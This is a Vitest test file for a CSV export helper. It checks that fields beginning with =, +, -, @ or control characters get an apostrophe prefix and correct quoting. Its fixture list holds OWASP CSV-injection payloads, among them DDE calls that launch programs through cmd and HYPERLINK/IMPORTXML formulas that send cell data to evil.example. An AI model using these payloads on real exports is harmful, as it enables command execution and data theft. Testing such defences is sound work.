import { describe, expect, it } from "vitest";
import { parseCsv } from "../../test/csv.ts";
import { csvField, csvHeader, csvLine, toCsv } from "./csv.ts";

// The payloads of OWASP's CSV Injection page (https://owasp.org/www-community/attacks/CSV_Injection)
// and their variants: each starts a formula, DDE call or hyperlink in Excel, LibreOffice or Sheets.
const OWASP_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click for further information")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=1+2";=1+2',
  "=1+2'\" ;,=1+2",
  '=DDE("cmd";"/C calc";"!A0")A0',
  '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a")',
  "\t=1+1",
  "\r=1+1",
  "\0=1+1",
  "@1",
];

/** The text a `;`-separated spreadsheet would see outside quoted fields: it must hold no `;`. */
const outsideQuotes = (line: string) => line.replace(/"(?:[^"]|"")*"/g, "");

describe("the CSV cell rule (docs/rules/reports.md, Exports)", () => {
  it.each(OWASP_PAYLOADS)("defuses %j: an apostrophe in front, and it reads back as one cell", (payload) => {
    const field = csvField(payload);
    const [[cell, ...others] = []] = parseCsv(`${field}\r\n`);
    expect(others).toEqual([]);
    expect(cell).toBe(`'${payload}`);
    expect(outsideQuotes(field)).not.toMatch(/[;,\r\n]/);
  });

  it("writes OWASP's own examples exactly as the page recommends (apostrophe, quotes doubled, quoted)", () => {
    expect(csvField('=1+2";=1+2')).toBe('"\'=1+2"";=1+2"');
    expect(csvField("=1+2'\" ;,=1+2")).toBe('"\'=1+2\'"" ;,=1+2"');
    expect(csvField("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
    expect(csvField("\t=1+1")).toBe("'\t=1+1");
    expect(csvField("\r=1+1")).toBe('"\'\r=1+1"');
  });

  it("quotes a semicolon, so a spreadsheet whose separator is ; never starts a new cell (which could begin with =)", () => {
    expect(csvField(";=1+1")).toBe('";=1+1"');
    expect(csvField('Smith;=HYPERLINK("x")')).toBe('"Smith;=HYPERLINK(""x"")"');
    const line = csvLine(["a", "b"], { a: "x;=1+1", b: "ok" });
    expect(outsideQuotes(line)).toBe(",ok\r\n");
  });

  it("quotes commas, quotes, CR and LF (RFC 4180), doubling quotes, and leaves the rest alone", () => {
    expect(csvField("plain")).toBe("plain");
    expect(csvField("Smith, John")).toBe('"Smith, John"');
    expect(csvField('He said "hi"')).toBe('"He said ""hi"""');
    expect(csvField("two\r\nlines")).toBe('"two\r\nlines"');
    expect(csvField("line\nfeed")).toBe('"line\nfeed"');
    expect(csvField("Safe = fine; really")).toBe('"Safe = fine; really"');
    expect(csvField("a=b")).toBe("a=b");
    expect(csvField("café 'quoted'")).toBe("café 'quoted'");
  });

  it("treats a negative amount as any cell starting with - (an apostrophe: the spreadsheet shows text, never runs it)", () => {
    expect(csvField("-12.50")).toBe("'-12.50");
    expect(csvField(-5)).toBe("'-5");
    expect(csvField(12)).toBe("12");
  });

  it("writes empty cells for null and undefined, booleans as text", () => {
    expect(csvField(null)).toBe("");
    expect(csvField(undefined)).toBe("");
    expect(csvField(true)).toBe("true");
  });

  it("builds files: a header through the same rule, CRLF after every record, cells in column order", () => {
    expect(csvHeader(["id", "name"])).toBe("id,name\r\n");
    expect(toCsv(["id", "name"] as const, [{ id: 1, name: "Ann" }, { name: "Bo, Jr", id: 2 }, { id: 3 }])).toBe(
      'id,name\r\n1,Ann\r\n2,"Bo, Jr"\r\n3,\r\n',
    );
    const file = toCsv(
      ["payload", "n"] as const,
      OWASP_PAYLOADS.map((payload, n) => ({ payload, n })),
    );
    expect(parseCsv(file).slice(1)).toEqual(OWASP_PAYLOADS.map((payload, n) => [`'${payload}`, String(n)]));
  });
});
